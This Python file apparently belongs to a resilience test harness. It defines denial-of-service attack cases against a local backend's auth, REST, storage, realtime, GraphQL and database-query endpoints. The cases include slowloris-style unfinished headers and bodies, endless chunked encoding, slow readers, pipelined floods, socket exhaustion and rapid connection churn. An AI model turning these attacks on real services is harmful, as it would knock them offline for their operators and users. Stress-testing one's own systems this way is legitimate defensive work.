"""Requests that never end, and more connections than one client needs."""

from __future__ import annotations

import resource
import socket
import time

from client import ATTACKER, Socket, Target

from . import attack

# Descriptors that an attack may take.
DESCRIPTORS = 9000


def allow_descriptors() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, DESCRIPTORS), hard))


@attack("connections/unfinished-heads", seconds=6, chosen=True)
def unfinished_heads(target: Target) -> None:
    allow_descriptors()
    target.hold(2500, b"GET /rest/v1/todos?limit=1 HTTP/1.1\r\nHost: localhost\r\nX-A: " + b"a" * 118_000)


@attack("connections/unfinished-small-heads", seconds=6)
def unfinished_small_heads(target: Target) -> None:
    allow_descriptors()
    target.hold(8000, b"GET /rest/v1/todos?limit=1 HTTP/1.1\r\nHost: localhost\r\nX-A: " + b"a" * 8_000)


@attack("connections/endless-chunk-sizes", seconds=6)
def endless_chunk_sizes(target: Target) -> None:
    allow_descriptors()
    target.hold(
        1000, b"POST /auth/v1/signup HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1;" + b"a" * 118_000
    )


def unfinished(path: str, size: int, kind: str = "application/json", count: int = 400):
    def run(target: Target) -> None:
        allow_descriptors()
        head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {kind}\r\nContent-Length: {size + 1}\r\n\r\n"
        target.hold(count, head.encode(), b'{"email":"' + b"a" * (size - 10))

    return run


attack("connections/unfinished-bodies-of-auth", seconds=6, chosen=True)(unfinished("/auth/v1/signup", 1_000_000))
attack("connections/unfinished-bodies-of-storage", seconds=6)(unfinished("/storage/v1/object/list/files", 1_000_000))
attack("connections/unfinished-bodies-of-realtime", seconds=6)(unfinished("/realtime/v1/api/broadcast", 900_000))
attack("connections/unfinished-bodies-of-rest", seconds=6)(unfinished("/rest/v1/texts", 15_000_000, count=100))
attack("connections/unfinished-bodies-of-graphql", seconds=6)(unfinished("/graphql/v1", 900_000))
attack("connections/unfinished-bodies-of-meta", seconds=6)(unfinished("/pg/query", 900_000))
attack("connections/unfinished-uploads", seconds=6)(unfinished("/storage/v1/object/files/x", 4_000_000, "text/plain", 200))
attack("connections/unfinished-forms-of-uploads", seconds=6)(
    unfinished("/storage/v1/object/files/x", 4_000_000, "multipart/form-data; boundary=a", 200)
)


@attack("connections/small-bodies-below-the-count", seconds=6)
def uncounted_bodies(target: Target) -> None:
    """Bodies just below the size from which they are counted."""
    allow_descriptors()
    size = 65_000
    head = f"POST /auth/v1/signup HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {size + 1}\r\n\r\n"
    target.hold(4000, head.encode(), b'{"email":"' + b"a" * (size - 10))


@attack("connections/slow-readers", seconds=8)
def slow_readers(target: Target) -> None:
    """Ask for 5 MB each and read nothing."""
    allow_descriptors()
    path = "/rest/v1/todos?select=" + ",".join(f"a{number}:title" for number in range(380))
    target.hold(200, f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 3)


@attack("connections/pipelined", seconds=6)
def pipelined(target: Target) -> None:
    """Thousands of requests in one write, whose answers are never read."""
    allow_descriptors()
    target.hold(100, b"GET /rest/v1/todos?limit=1000 HTTP/1.1\r\nHost: localhost\r\n\r\n" * 300)


@attack("connections/all-sockets", seconds=8)
def all_sockets(target: Target) -> None:
    allow_descriptors()
    held = []
    while not target.is_over() and len(held) < 8000:
        try:
            held.append(Socket(target.api))
            target.note("open")
        except (OSError, ValueError, IndexError) as error:
            target.note(f"{type(error).__name__} {error}"[:40])
            time.sleep(0.01)
    while not target.is_over():
        time.sleep(0.05)
    for one in held:
        one.close()


@attack("connections/opened-and-left", seconds=5)
def opened_and_left(target: Target) -> None:
    """Connections that are closed at once, as fast as one client can."""

    def work() -> None:
        while not target.is_over():
            try:
                with socket.create_connection(("127.0.0.1", target.api), timeout=5, source_address=(ATTACKER, 0)) as connection:
                    connection.sendall(b"GET /rest/v1/todos HTTP/1.1\r\nHost: localhost\r\n\r\n")
                target.note("left")
            except OSError as error:
                target.note(type(error).__name__)

    target.together(8, work)
